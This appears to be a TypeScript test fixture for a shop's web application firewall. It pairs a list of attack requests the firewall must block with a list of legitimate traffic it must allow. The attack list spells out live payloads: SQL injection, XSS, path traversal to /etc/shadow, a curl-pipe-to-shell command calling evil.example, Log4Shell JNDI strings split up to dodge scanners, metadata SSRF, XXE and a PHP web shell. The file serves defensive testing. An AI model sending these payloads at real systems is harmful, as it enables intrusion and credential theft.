import type { EdgeRequest } from './test-edge.js';

/** A request of the tables below. */
export interface Traffic {
  readonly name: string;
  readonly path: string;
  readonly request: EdgeRequest;
}

const get = (name: string, path: string, headers: Record<string, string> = {}): Traffic => ({ name, path, request: { headers: { accept: 'application/json', 'user-agent': 'Mozilla/5.0', ...headers } } });
const send = (name: string, path: string, body: string, type: string, more: Record<string, string> = {}, method = 'POST'): Traffic => ({
  name,
  path,
  request: { method, body, headers: { accept: '*/*', 'user-agent': 'Mozilla/5.0', 'content-type': type, 'content-length': String(Buffer.byteLength(body)), ...more } },
});
const json = (name: string, path: string, body: unknown, more: Record<string, string> = {}): Traffic => send(name, path, JSON.stringify(body), 'application/json', more);
const soap = (name: string, inside: string, before = ''): Traffic =>
  send(name, '/soap/shipping', `<?xml version="1.0" encoding="utf-8"?>${before}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${inside}</soap:Body></soap:Envelope>`, 'text/xml; charset=utf-8', { soapaction: '"urn:shop:shipping#GetQuote"' });

// The look-ups are put together, for scanners of sources look for them.
const jndi = `$\{${'jn'}di:ldap://evil.example/a}`;
const metadata = `http://${[169, 254, 169, 254].join('.')}/latest/meta-data/`;

/** What the firewall must refuse. */
export const attacks: readonly Traffic[] = [
  get('SQL injection in the query', `/products?q=${encodeURIComponent("x' OR '1'='1' --")}`),
  get('a UNION in the query', `/products?id=${encodeURIComponent('1 UNION SELECT username, password FROM users')}`),
  json('SQL injection in JSON', '/api/login', { user: "admin' OR 1=1--", password: 'x' }),
  send('SQL injection in a merge patch', '/api/account', JSON.stringify({ name: "x'; DROP TABLE users; --" }), 'application/merge-patch+json', {}, 'PATCH'),
  json('a second statement of SQL in JSON', '/api/orders', { note: 'shoes; truncate table orders' }),
  json('a second statement of SQL that deletes', '/api/orders', { note: 'shoes; delete from orders' }),
  get('SQL injection in an id', `/products?id=${encodeURIComponent("1' OR '1'='1' --")}`),
  get('SQL injection in the id of a connection', `/hubs/shop?id=${encodeURIComponent("x' OR 1=1--")}&access_token=hub.Zk3x`),
  get('SQL injection in the cookie of a session', '/', { cookie: "__Host-portico=x' OR '1'='1' --" }),
  get('script in the query', `/search?q=${encodeURIComponent('<script>alert(1)</script>')}`),
  json('script in JSON', '/api/reviews', { text: '<img src=x onerror=alert(document.cookie)>' }),
  get('traversal in the query', `/files?name=${encodeURIComponent('../../../../etc/passwd')}`),
  get('a file of the system', '/api/download?file=/etc/shadow'),
  get('a repository', '/.git/config'),
  get('a dump of a database', '/backup.sql'),
  get('a command in the query', `/ping?host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}`),
  json('a command in JSON', '/api/ping', { host: '$(curl http://evil.example/x.sh | sh)' }),
  get('Shellshock', '/', { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' }),
  get('Log4Shell in a header field', '/', { 'x-api-version': jndi }),
  get('Log4Shell in the browser name', '/', { 'user-agent': jndi }),
  get('Log4Shell in the query', `/search?q=${encodeURIComponent(jndi)}`),
  get('Log4Shell in the path', `/products/${encodeURIComponent(jndi)}`),
  get('Log4Shell in disguise', `/search?q=${encodeURIComponent('${${lower:j}ndi:ldap://evil.example/a}')}`),
  json('Log4Shell in JSON', '/api/orders', { note: jndi }),
  soap('Log4Shell in SOAP', `<Quote><to>${jndi}</to></Quote>`),
  get("a cloud's metadata", `/proxy?url=${encodeURIComponent(metadata)}`),
  json("a cloud's metadata in JSON", '/api/hooks', { url: metadata }),
  soap('an external entity in SOAP', '<Quote>&x;</Quote>', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'),
  soap('a document type in SOAP', '<Quote/>', '<!DOCTYPE a>'),
  json('operators of MongoDB in JSON', '/api/login', { user: { $ne: null }, password: { $gt: '' } }),
  get('operators of MongoDB in the query', '/api/users?user[$ne]=x'),
  json('a prototype in JSON', '/api/basket', JSON.parse('{"__proto__":{"isAdmin":true}}')),
  json('the prototype of a constructor in JSON', '/api/basket', { constructor: { prototype: { isAdmin: true } } }),
  json('a serialised object of Java', '/api/state', { state: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' }),
  get('a serialised object of Java in a cookie', '/', { cookie: 'state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }),
  json('code for Node.js', '/api/eval', { code: "require('child_process').exec('id')" }),
  get('code for PHP', `/index?x=${encodeURIComponent('<?php system($_GET["c"]); ?>')}`),
  get('a scanner', '/', { 'user-agent': 'sqlmap/1.7 (https://sqlmap.org)' }),
  get('a split answer', '/go?to=%0d%0aSet-Cookie:%20a=b'),
  get('a filter of LDAP', `/users?name=${encodeURIComponent('*)(uid=*))(|(uid=*')}`),
];

const token = 'eyJhbGciOiJFUzI1NiIsImtpZCI6ImEifQ.eyJzdWIiOiJhbm4iLCJhdWQiOiJodHRwczovL3dlYi5wb3J0aWNvLmV4YW1wbGUifQ.MEUCIQDx-_a9f3Zr8dG2pXv0wq1nJmB7y5bS4cT6kLh9oPzQ';
const graph = 'query ProductReviews($id: ID!, $n: Int = 3) { product(id: $id) { count average reviews(limit: $n, filter: { text: "good & cheap" }) { ... on Review { rating title @include(if: true) } } } }';

/** What the firewall must let pass: traffic as the BFFs have it, and texts as people write them. */
export const harmless: readonly Traffic[] = [
  get('a page', '/'),
  get('a list with filters', '/api/products?q=red%20shoes&page=2&sort=-price&facet=size:42&facet=colour:red%2Fblue&cursor=eyJvZmZzZXQiOjI0fQ%3D%3D'),
  get('a search for a name with an apostrophe', "/api/products?q=O'Brien%20%26%20sons"),
  get('a search for a sentence', `/api/products?q=${encodeURIComponent('what is the best drill for concrete?')}`),
  json('odd texts in JSON', '/api/orders', { name: "O'Brien & sons; SELECT your size", note: 'Leave it at the door -- thanks! (2nd floor, <3)', email: 'ann+shop@example.com', phone: '+44 20 7946 0000' }),
  json('a review', '/api/reviews', { rating: 4, title: "Doesn't fit, but it's great", text: 'I ordered 2 or 3 of them & they "just work" -- 100% cotton; price < 20 $. Order by phone? No, thanks...\nSee https://shop.example/help' }),
  json('orders to whoever packs', '/api/orders', { note: 'Ring twice; delete from my basket what is sold out; select another size from the list, or update me; create a parcel & drop it at the desk' }),
  json('other languages', '/api/account', { name: 'Zoë Åström-Łukasiewicz', city: '東京', street: 'Straße des 17. Juni 135', emoji: '🛒👍' }),
  json('many lines of a basket', '/api/basket/lines', { lines: Array.from({ length: 20 }, (_, index) => ({ productId: `p-${String(index).padStart(4, '0')}`, quantity: index + 1 })) }),
  send('a merge patch', '/api/account', JSON.stringify({ address: { street: 'Main St. 1/2', line2: null }, newsletter: true }), 'application/merge-patch+json', {}, 'PATCH'),
  json('a query of GraphQL', '/api/reviews/graphql', { query: graph, variables: { id: 'p-0001', n: 3 }, operationName: 'ProductReviews' }),
  json('fields of GraphQL that are commands elsewhere', '/api/reviews/graphql', { query: '{ id name who { id } top { cat { name } } ls product(id: "p-1", name: "x") { id } }' }),
  json('fields of GraphQL, one a line', '/graphql', { query: 'query Home {\n  env { id }\n  who\n  ping { time }\n}' }),
  json('a text in GraphQL', '/graphql', { query: 'query { a(t: "b", u: "c") { id, name } b: a(t: "`d`", u: "e") }' }),
  json('a mutation of GraphQL', '/graphql', { query: 'mutation Rate($input: RateInput!) { rate(input: $input) { ok errors { code message } } }', variables: { input: { product: 'p-0001', stars: 5 } } }, { accept: 'application/graphql-response+json, application/json;q=0.9' }),
  json('an introspection of GraphQL', '/graphql', { query: '{ __schema { queryType { name } types { kind name fields(includeDeprecated: true) { name args { name type { ...T } } } } } } fragment T on __Type { kind name ofType { kind name } }' }),
  soap('an envelope of SOAP', '<q:GetQuote xmlns:q="urn:shop:shipping"><q:country>DE</q:country><q:note>O\'Brien &amp; sons</q:note><q:weight unit="kg">1.5</q:weight></q:GetQuote>'),
  get('a bearer token', '/api/home', { authorization: `Bearer ${token}`, dpop: token }),
  get('cookies of a session', '/api/home', { cookie: `__Host-portico=${'Ab3_-'.repeat(16)}; theme=dark; _ga=GA1.2.1234567890.1700000000; consent=%7B%22ads%22%3Afalse%7D` }),
  get('the way back from a login', `/bff/callback?code=${'Zk3-_x'.repeat(8)}&state=${'q1W_-e'.repeat(7)}&iss=${encodeURIComponent('https://id.shop.localhost:8443')}`),
  get('the way back from a login on this machine', `/bff/callback?code=abc&state=def&iss=${encodeURIComponent('http://127.0.0.1:4000')}`),
  get('the login of an app that is installed', `/auth?client_id=shop-desktop&response_type=code&scope=openid&redirect_uri=${encodeURIComponent('http://127.0.0.1:53712/callback')}`),
  get('the way to a login', `/auth?client_id=shop-web&response_type=code&scope=openid%20profile%20orders:read%20offline_access&redirect_uri=${encodeURIComponent('https://shop.localhost:8443/bff/callback')}&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&prompt=consent`),
  send('a form of a login', '/interaction/abc/login', 'login=ann&password=correct+horse+battery+staple%21', 'application/x-www-form-urlencoded'),
  send('a request for a token', '/token', `grant_type=authorization_code&code=abc&redirect_uri=${encodeURIComponent('https://shop.localhost:8443/bff/callback')}&client_assertion_type=${encodeURIComponent('urn:ietf:params:oauth:client-assertion-type:jwt-bearer')}&client_assertion=${token}`, 'application/x-www-form-urlencoded'),
  send('a logout by the back channel', '/bff/backchannel', `logout_token=${token}`, 'application/x-www-form-urlencoded'),
  send('the start of a push connection', '/hubs/shop/negotiate?negotiateVersion=1', '', 'text/plain;charset=UTF-8', { 'x-requested-with': 'XMLHttpRequest', 'x-signalr-user-agent': 'Microsoft SignalR/8.0 (8.0.7; Unknown OS; Browser; Unknown Runtime Version)' }),
  send('a message by long polling', '/hubs/shop?id=replica-1.abc', '{"protocol":"json","version":1}\u001e{"type":1,"target":"Watch","arguments":["p-0001"],"invocationId":"1"}\u001e', 'text/plain;charset=UTF-8'),
  get('events by a token in the query', `/hubs/shop?id=replica-1.abc&access_token=${token}`, { accept: 'text/event-stream' }),
  get('an id that begins like a comment of SQL', '/hubs/shop?id=1--nT54DXhvK-qA-MGFeig&access_token=0-NDkjaPupQnFjQe--5MGw0-NDkjaPupQnFjQe--5MGw', { accept: 'text/event-stream' }),
  get('a session that begins like a comment of SQL', '/api/home', { cookie: '__Host-portico=1--nT54DXhvK-qA-MGFeig1--nT54DXhvK-qA-MGFeig; __Host-portico-tx=1--nT54DXhvK-qA-MGFeig.5--a' }),
  get('the way back from a login with a code that begins like a comment of SQL', '/bff/callback?code=1--nT54DXhvK-qA-MGFeig&state=7--xZxK2nJ6jQB_tDa6a2u'),
  send('a renewal by a token that begins like a comment of SQL', '/token', 'grant_type=refresh_token&refresh_token=1--nT54DXhvK-qA-MGFeig', 'application/x-www-form-urlencoded'),
  get('a conditional request', '/api/products/p-0001', { 'if-none-match': 'W/"a1b2c3"', 'accept-language': 'de-DE,de;q=0.9,en;q=0.8', 'cache-control': 'no-cache' }),
  get('an export', '/api/orders/export?format=csv&from=2024-01-01T00:00:00%2B02:00', { accept: 'text/csv' }),
  { name: 'a deletion', path: '/api/basket/lines/p-0001', request: { method: 'DELETE', headers: { accept: '*/*', 'x-csrf': '1' } } },
  send('a replacement', '/api/basket/lines/p-0001', '{"quantity":3}', 'application/json; charset=utf-8', { 'x-csrf': '1', 'if-match': '"7"' }, 'PUT'),
  { name: 'a preflight', path: '/api/home', request: { method: 'OPTIONS', headers: { accept: '*/*', origin: 'https://shop.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,x-csrf' } } },
  json('a long text', '/api/reviews', { rating: 5, text: 'It is good, and I would buy it again; but the box was too large. '.repeat(300) }),
  json('a picture in base64', '/api/account/picture', { type: 'image/png', data: Buffer.from(Array.from({ length: 30_000 }, (_, index) => (index * 7_919) % 251)).toString('base64') }),
];
